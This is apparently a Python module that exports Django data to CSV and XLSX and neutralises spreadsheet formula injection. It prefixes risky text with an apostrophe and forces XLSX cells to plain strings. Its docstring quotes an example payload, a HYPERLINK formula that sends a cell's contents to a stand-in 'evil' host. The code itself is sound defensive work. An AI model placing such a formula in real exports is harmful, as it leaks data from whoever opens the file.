"""CSV and XLSX tables whose user text stays text.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab
or a carriage return) as a formula: a supplier named ``=HYPERLINK("http://evil/?"&A1)`` would
run when the export is opened. Such text is prefixed with an apostrophe, in CSV and in XLSX alike
(:func:`inert`). Dates stay dates: typed cells in XLSX, ISO 8601 in CSV.

CSV is written for French spreadsheets: UTF-8 with a byte order mark, ``;`` between fields.
XLSX is written row by row (openpyxl's write-only mode), one sheet per table, header frozen.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from typing import BinaryIO

from django.utils import timezone
from django.utils.translation import gettext
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_DELIMITER = ";"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
SHEET_TITLE_MAX = 31  # Excel's limit


def inert(value):
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


@dataclass
class Table:
    """One sheet: a title, the column headers, and the rows (plain values: text, numbers, dates)."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence]


def _csv_value(value):
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("Oui") if value else gettext("Non")
    if isinstance(value, datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if timezone.is_aware(value) else value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return inert(value)


def write_csv(tables: Sequence[Table], out: BinaryIO) -> int:
    """The tables one after the other (a blank line between them) as CSV; returns the rows written."""
    text = io.TextIOWrapper(out, encoding="utf-8-sig", newline="", write_through=True)
    writer = csv.writer(text, delimiter=CSV_DELIMITER, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    count = 0
    for index, table in enumerate(tables):
        if index:
            writer.writerow([])
        writer.writerow([inert(header) for header in table.headers])
        for row in table.rows:
            writer.writerow([_csv_value(value) for value in row])
            count += 1
    text.flush()
    text.detach()  # leave ``out`` open for the caller
    return count


def _xlsx_cell(sheet, value, bold: bool = False):
    if isinstance(value, datetime) and timezone.is_aware(value):
        value = timezone.localtime(value).replace(tzinfo=None)
    cell = WriteOnlyCell(sheet, value=inert(value))
    if isinstance(value, datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, date):
        cell.number_format = DATE_FORMAT
    elif isinstance(value, str):
        cell.data_type = "s"  # never a formula, whatever the text
    if bold:
        cell.font = Font(bold=True)
    return cell


def write_xlsx(tables: Sequence[Table], out: BinaryIO) -> int:
    """One sheet per table, its header in bold and frozen; returns the rows written."""
    workbook = Workbook(write_only=True)
    count = 0
    for table in tables:
        sheet = workbook.create_sheet(title=table.title[:SHEET_TITLE_MAX])
        sheet.freeze_panes = "A2"
        sheet.append([_xlsx_cell(sheet, header, bold=True) for header in table.headers])
        for row in table.rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
            count += 1
    workbook.save(out)
    return count
